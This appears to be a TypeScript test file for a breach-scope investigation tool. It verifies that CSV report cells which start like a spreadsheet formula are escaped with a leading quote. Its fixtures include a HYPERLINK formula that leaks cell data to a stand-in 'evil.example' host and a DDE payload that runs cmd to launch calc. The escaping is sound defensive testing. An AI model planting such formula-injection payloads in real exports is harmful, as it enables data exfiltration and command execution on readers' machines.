import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Tables } from "../../kql/tables";
import { breachScope } from "../../investigation/breach-scope";
import { renderCsv } from "../../investigation/report-csv";
import { openLocalLake } from "../../investigation/sources/local-lake";
import { accessMailRow } from "../vectors/vectors";

// The CSV counsel opens in a spreadsheet: an attacker chooses subjects and folder names, so a cell that starts like a
// formula (=, +, -, @, tab, CR) must arrive as text, never as a live formula.
const EVIL_SUBJECT = '=HYPERLINK("https://evil.example/?leak="&A2,"Open invoice")';
const EVIL_FOLDER = "+cmd|' /C calc'!A0";
const START = Date.parse("2024-03-15T00:00:00Z");
const END = Date.parse("2024-03-16T00:00:00Z");
let dir: string;

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), "report-csv-"));
  const db = join(dir, "adx", "tenant0");
  mkdirSync(db, { recursive: true });
  const read = (id: string, folder: string, messageId: string) =>
    accessMailRow({ CreationTime: "2024-03-15T10:00:00Z", RecordId: id, UserId: "ava@contoso.com", MailboxOwnerUPN: "ava@contoso.com", MailAccessType: "Bind", IsThrottled: false, ClientIPAddress: "203.0.113.45", FolderPath: folder, InternetMessageId: messageId });
  const rows = [read("r1", "\\Inbox", "<m1@x>"), read("r2", EVIL_FOLDER, "<m2@x>"), read("r3", "@SUM(1+1)", "<m3@x>"), read("r4", "-2+3", "<m4@x>"), read("r5", "\tTabbed", "<m5@x>"), read("r6", "\rReturn", "<m6@x>")];
  writeFileSync(join(db, `${Tables.accessMail}.jsonl`), rows.map((r) => JSON.stringify(r)).join("\n") + "\n");
  const event = { Timestamp: "2024-03-14T08:00:00Z", InternetMessageId: "<m1@x>", SenderFromAddress: "billing@evil.example", SenderDisplayName: "Billing", Subject: EVIL_SUBJECT, RecipientEmailAddress: "ava@contoso.com" };
  writeFileSync(join(db, "EmailEvents.jsonl"), JSON.stringify(event) + "\n");
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** RFC 4180 cells of one CSV text. */
function cells(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") rows[rows.length - 1].push(cell), (cell = "");
    else if (c === "\r" && text[i + 1] === "\n") rows[rows.length - 1].push(cell), (cell = ""), rows.push([]), i++;
    else cell += c;
  }
  return rows.filter((r) => r.length > 0);
}

test("no cell of any section starts like a formula; the attacker's text is kept, behind a leading quote", async () => {
  const report = await breachScope(openLocalLake(dir), { user: "ava@contoso.com", ips: ["203.0.113.45"], sessions: [], aadSessions: [], apps: [], clientInfoStrings: [], startMs: START, endMs: END });
  const sections = renderCsv(report);
  for (const [name, text] of Object.entries(sections))
    for (const row of cells(text)) for (const c of row) expect({ section: name, cell: c, formula: /^[=+\-@\t\r]/.test(c) }).toEqual({ section: name, cell: c, formula: false });

  const messages = cells(sections.messages);
  const col = (name: string) => messages[0].indexOf(name);
  const byId = new Map(messages.slice(1).map((r) => [r[col("internetMessageId")], r]));
  expect(byId.get("<m1@x>")![col("subject")]).toBe(`'${EVIL_SUBJECT}`);
  expect(byId.get("<m2@x>")![col("folderPath")]).toBe(`'${EVIL_FOLDER}`);
  expect(byId.get("<m3@x>")![col("folderPath")]).toBe("'@SUM(1+1)");
  expect(byId.get("<m4@x>")![col("folderPath")]).toBe("'-2+3");
  expect(byId.get("<m5@x>")![col("folderPath")]).toBe("'\tTabbed");
  expect(byId.get("<m6@x>")![col("folderPath")]).toBe("'\rReturn");
  // numbers and ordinary text are untouched
  expect(byId.get("<m1@x>")![col("accessCount")]).toBe("1");
  expect(byId.get("<m1@x>")![col("folderPath")]).toBe("\\Inbox");
});
